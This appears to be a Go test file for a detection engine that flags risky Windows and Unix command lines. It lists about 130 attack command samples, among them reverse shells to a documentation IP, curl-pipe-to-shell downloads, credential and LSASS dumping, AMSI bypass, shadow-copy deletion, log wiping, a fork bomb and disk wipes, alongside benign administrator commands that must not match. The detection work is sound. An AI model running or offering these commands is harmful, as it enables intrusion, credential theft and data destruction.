package commandline

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// risky are commands with the rule that they are for; every rule has one.
const risky = `
certutil-download: certutil.exe -urlcache -split -f http://203.0.113.7/a.exe a.exe
certutil-download: C:\Windows\System32\CertUtil.exe /VerifyCTL /f https://x.example/a
certutil-decode: certutil -decode a.txt a.exe
certutil-encode: certutil /encode a.exe a.txt
certutil-export: certutil -p pw -exportPFX my.pfx
bitsadmin-transfer: bitsadmin /transfer job http://x.example/a.exe C:\a.exe
bitsadmin-notify: bitsadmin /SetNotifyCmdLine job C:\a.exe NULL
regsvr32-remote: regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll
mshta-script: mshta.exe vbscript:Close(Execute("GetObject(""script:http://x.example/a"")"))
mshta-script: mshta http://x.example/a.hta
rundll32-script: rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();
rundll32-odd-place: rundll32 C:\Users\bob\AppData\Roaming\a.dll,Start
rundll32-proxy: rundll32 url.dll,OpenURL C:\a.exe
minidump: rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\l.dmp full
minidump: rundll32 comsvcs.dll #24 624 l.dmp full
curl-execute: curl.exe -o C:\Users\Public\a.exe http://x.example/a
desktopimgdownldr: hh.exe http://x.example/a.chm
msiexec-remote: msiexec /q /i https://x.example/a.msi
msbuild-odd-place: MSBuild.exe C:\Users\Public\a.csproj
cmstp: cmstp.exe /s /ns C:\a.inf
odbcconf-regsvr: odbcconf /S /A {REGSVR C:\a.dll}
script-odd-place: wscript.exe "C:\Users\bob\Downloads\invoice.js"
wmic-create: wmic /node:10.0.0.9 process call create "cmd /c calc"
wmic-stylesheet: wmic os get /format:"https://x.example/a.xsl"
forfiles-proxy: forfiles /p C:\Windows /m a.txt /c "cmd /c calc"
powershell-encoded: powershell -eNco aQBlAHgA
powershell-encoded: pwsh.exe /ec aQBlAHgA
powershell-hidden: powershell -W Hid -c calc
powershell-hidden: powershell.exe -window 1 calc
powershell-bypass: powershell -exec bypass -File a.ps1
powershell-downgrade: powershell -version 2 -c calc
powershell-expression: powershell IEX $x
powershell-expression: cmd /c powershell -c "('a b'+'c') | & ('i'+'ex')"
powershell-download: powershell -c "(New-Object Net.WebClient).DownloadFile('http://x.example/a','a')"
powershell-download: powershell iwr http://x.example/a
powershell-decode: powershell -c "[Convert]::FromBase64String($x)"
powershell-reflection: powershell -c "[Reflection.Assembly]::Load($b)"
amsi-bypass: powershell -c "[Ref].Assembly.GetType('System.Management.Automation.Amsi'+'Utils')"
script-log-bypass: powershell -c "$s['ScriptB'+'lockLogging']=0"
powershell-credentials: powershell Invoke-Mimikatz -DumpCreds
defender-off: powershell Set-MpPreference -DisableRealtimeMonitoring $true
schtasks-odd: schtasks /create /tn x /sc onlogon /tr "cmd /c C:\a.bat"
schtasks-create: SCHTASKS.EXE -Create /tn x /tr C:\a.exe /sc daily
at-job: at 13:20 /interactive cmd
run-key: reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d C:\a.exe
image-hijack: REG ADD "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /d cmd.exe
sticky-keys: cmd /c copy /y C:\Windows\System32\cmd.exe C:\Windows\System32\sethc.exe
service-odd: sc create x binPath= "%COMSPEC% /Q /c echo y"
service-change: sc.exe \\fs02 create x binPath= C:\a.exe
account-add: net user bob Pw12 /add
account-add: net1 user bob Pw12 /ad
group-add: net localgroup administrators bob /add
wmi-persistence: powershell -c "Set-WmiInstance -Class CommandLineEventConsumer"
hive-dump: reg save HKLM\SAM sam.hiv
hive-dump: cmd /c reg.exe save hklm\security C:\s
hive-copy: cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\ntds.dit C:\
ntdsutil-dump: ntdsutil "ac i ntds" "ifm" "create full C:\x" q q
process-dump: procdump64.exe -accepteula -ma lsass.exe l.dmp
wdigest: reg add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1
password-search: findstr /si cpassword *.xml
vault-list: cmdkey /list
shadow-delete: vssadmin.exe Delete Shadows /All /Quiet
shadow-delete: wmic shadowcopy delete
recovery-off: bcdedit /set {default} recoveryenabled No
recovery-off: wbadmin delete catalog -quiet
shadow-delete-script: powershell -c "Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}"
log-clear: cmd /c "for %x in (a) do wevtutil.exe cl Security" & wevtutil cl System
log-clear-script: powershell Clear-EventLog -LogName Security
log-off: auditpol /clear /y
journal-delete: fsutil usn deletejournal /d c:
firewall-off: netsh advfirewall set allprofiles state off
port-proxy: netsh interface portproxy add v4tov4 listenport=1 connectaddress=10.0.0.1
wifi-keys: netsh wlan show profile x key=clear
rdp-on: reg add "HKLM\System\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
uac-off: reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v EnableLUA /d 0
restricted-admin: reg add hklm\system\currentcontrolset\control\lsa /v DisableRestrictedAdmin /d 0
remote-admin-share: cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1600000000 2>&1
remote-share: net use \\fs02\c$ /user:x y
psexec: PsExec64.exe \\fs02 -s cmd
pipe-echo: cmd.exe /c echo abc > \\.\pipe\abc
account-discovery: net group "Domain Admins" /domain
trust-discovery: nltest /domain_trusts
adfind: adfind.exe -f (objectcategory=person)
spn-change: setspn -a MSSQLSvc/a b
privilege-discovery: whoami /priv
netcat-shell: nc.exe 203.0.113.7 443 -e cmd.exe
netcat-shell: nc -lvp 4444 -e /bin/sh
download-to-shell: curl -fsSL http://x.example/a.sh | sudo bash
download-to-shell: sh -c "wget -qO- http://x.example/a | tee x | python3 -"
download-run: bash -c "$(curl -fsSL http://x.example/a.sh)"
download-tmp: wget http://x.example/a -O /tmp/a
decode-to-shell: echo aWQ= | base64 -d | sh
text-to-shell: echo id | bash
network-shell: bash -i >& /dev/tcp/203.0.113.7/443 0>&1
fifo-shell: rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 443 > /tmp/f
script-socket: python3 -c 'import socket,os;s=socket.socket()'
terminal-spawn: python -c 'import pty; pty.spawn("/bin/sh")'
cron-odd: (crontab -l; echo "* * * * * curl http://x.example/a | sh") | crontab -
cron-change: crontab /home/bob/jobs
cron-delete: crontab -r
tmp-executable: chmod +x /tmp/.a
tmp-executable: chmod 777 /dev/shm/a
tmp-run: nohup /tmp/a
setuid: chmod u+s /bin/bash
preload: LD_PRELOAD=/tmp/a.so ls
history-clear: history -c
history-clear: unset HISTFILE; id
log-wipe: rm -rf /var/log/audit
to-nothing: mv /srv/data /dev/null
time-stomp: touch -r /bin/ls /bin/a
authorized-keys: echo ssh-rsa AAAA >> /root/.ssh/authorized_keys
shadow-read: sudo cat /etc/shadow
sudoers-change: echo "bob ALL=(ALL) NOPASSWD:ALL" | tee -a /etc/sudoers
root-account: useradd -o -u 0 -g 0 toor
account-add-unix: useradd bob
admin-group-unix: usermod -aG sudo bob
firewall-flush: iptables -F
audit-off: systemctl stop auditd
immutable: chattr +i /etc/crontab
kernel-module: insmod ./a.ko
fork-bomb: :(){ :|:& };:
disk-wipe: dd if=/dev/zero of=/dev/sda bs=1M
namespace-escape: nsenter --target 1 --mount sh
cloud-metadata: curl http://169.254.169.254/latest/meta-data/
tunnel: ssh -R 8080:localhost:80 bob@x.example
miner: ./x -o stratum+tcp://pool.example:3333
private-keys: find / -name id_rsa
`

// TestRules: every rule finds what it is for.
func TestRules(t *testing.T) {
	rules, err := NewRules(BuiltinRules())
	if err != nil {
		t.Fatal(err)
	}
	a, tried := New(DefaultLimits()), map[string]bool{}
	for line := range strings.Lines(strings.TrimSpace(risky)) {
		id, text, _ := strings.Cut(strings.TrimSpace(line), ": ")
		tried[id] = true
		c := a.Analyze(text, Unknown)
		if !slices.ContainsFunc(rules.Match(&c), func(m Match) bool { return m.Rule.ID == id }) {
			t.Errorf("%s does not match %s (%s, %q)", id, text, c.Dialect, c.Tokens)
		}
	}
	for _, rule := range BuiltinRules() {
		if !tried[rule.ID] {
			t.Errorf("%s is not tried", rule.ID)
		}
		if !slices.Contains(Severities(), rule.Severity) || len(rule.Attack) == 0 || strings.HasSuffix(rule.Title, ".") {
			t.Errorf("%s: %+v", rule.ID, rule)
		}
	}
}

// TestHonestCommands: what administrators do all day matches nothing.
func TestHonestCommands(t *testing.T) {
	rules, err := NewRules(append(BuiltinRules(), MSTICPyRules()...))
	if err != nil {
		t.Fatal(err)
	}
	a := New(DefaultLimits())
	for _, text := range []string{
		`C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`,
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --url=https://x.example/a?b=c&d=e`,
		`powershell.exe -File C:\Scripts\backup.ps1 -e now`, `certutil -hashfile a.iso SHA256`, `reg query HKLM\SAM`,
		`schtasks /query /fo LIST`, `net use z: \\fs02\data`, `wmic os get caption`, `vssadmin list shadows`, `wevtutil qe System`,
		`rundll32.exe shell32.dll,Control_RunDLL`, `msiexec /i C:\a.msi /qn`, `bitsadmin /list`, `netsh interface show interface`,
		`ls -la /tmp`, `tar czf /srv/a.tgz /home/bob`, `curl -s https://x.example/health`, `wget https://x.example/a.iso`, `chmod 644 /tmp/a`,
		`chmod +x build.py`, `crontab -l`, `systemctl status auditd`, `ssh bob@x.example -v`, `rm -rf /tmp/build`, `docker ps`,
		`grep -r pattern /var/log`, `python3 manage.py migrate`, `systemctl restart nginx.service`, `touch a.txt`, `iptables -L`,
		`find /srv -name '*.log' -mtime +7`, `git log --oneline | head`, `cat /etc/passwd`, `echo hello | tee a.txt`, `dd if=a.img of=b.img`,
	} {
		c := a.Analyze(text, Unknown)
		for _, m := range rules.Match(&c) {
			t.Errorf("%s matches %s", m.Rule.ID, text)
		}
		if c.Score != 0 {
			t.Errorf("%s scores %d: %v", text, c.Score, names(c.Techniques))
		}
	}
}

// TestOwnRules: what a rule states must all hold.
func TestOwnRules(t *testing.T) {
	for _, c := range []struct {
		rule  Rule
		yes   []string
		no    []string
		error string
	}{
		{rule: Rule{Program: []string{"net", "sc"}, All: []string{"stop", "*backup*"}}, yes: []string{`net stop "x Backup y"`, `cmd /c sc.exe STOP backupd`}, no: []string{`net start backup`, `echo net stop backup`}},
		{rule: Rule{Program: []string{"a"}, Any: []string{"-w~indow h*"}, None: []string{"--dry"}}, yes: []string{`a /WIN hidden`, `a -w h`}, no: []string{`a -x hidden`, `a -window`, `a -w h --dry`, `a -windows h`}},
		{rule: Rule{Program: []string{"cat"}, Into: []string{"nc"}}, yes: []string{`cat /etc/hosts | gzip | nc h 1`}, no: []string{`cat /etc/hosts; nc h 1`, `nc h 1 | cat /etc/hosts`}},
		{rule: Rule{Any: []string{"b*c*d"}}, yes: []string{`a BxcxD`, `a bcd`}, no: []string{`a bdc`, `a bxcxdx`}},
		{rule: Rule{Regex: `(?i)\bfoo\s+bar`}, yes: []string{`x FOO  bar`, `x f^oo bar`}, no: []string{`foobar`}},
		{rule: Rule{Regex: `(`}, error: "rule x: error parsing regexp: missing closing ): `(`"},
		{rule: Rule{}, error: "rule x: it states nothing: want program, all, any or regex"},
		{rule: Rule{None: []string{"a"}}, error: "rule x: it states nothing: want program, all, any or regex"},
		{rule: Rule{All: []string{" "}}, error: "rule x: a term is empty"},
		{rule: Rule{All: []string{"-a~*"}}, error: "rule x: an option that may be cut short has no star"},
		{rule: Rule{Into: []string{"a"}, All: []string{"b"}}, error: "rule x: into wants program"},
	} {
		c.rule.ID = "x"
		rules, err := NewRules([]Rule{c.rule})
		if got := message(err); got != c.error {
			t.Errorf("%+v: error %q, want %q", c.rule, got, c.error)
		}
		if err != nil {
			continue
		}
		a := New(DefaultLimits())
		for i, text := range slices.Concat(c.yes, c.no) {
			command := a.Analyze(text, Unknown)
			if got, want := len(rules.Match(&command)) > 0, i < len(c.yes); got != want {
				t.Errorf("%+v matches %s: %t, want %t (%q)", c.rule, text, got, want, command.Tokens)
			}
		}
	}
	if _, err := NewRules([]Rule{{ID: "x", Any: []string{"a"}}, {ID: "x", Any: []string{"b"}}}); err == nil {
		t.Error("two rules of one name are accepted")
	}
}

func message(err error) string {
	if err == nil {
		return ""
	}
	return err.Error()
}

func TestMatchedCommand(t *testing.T) {
	rules, err := NewRules(BuiltinRules())
	if err != nil {
		t.Fatal(err)
	}
	c := New(DefaultLimits()).Analyze(`cmd /c "net user bob /add && net localgroup administrators bob /add"`, Unknown)
	var got []string
	for _, m := range rules.Match(&c) {
		got = append(got, m.Rule.ID+": "+m.Command)
	}
	want := []string{"account-add: net user bob /add", "group-add: net localgroup administrators bob /add"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(- wanted, + got):\n%s", diff)
	}
}
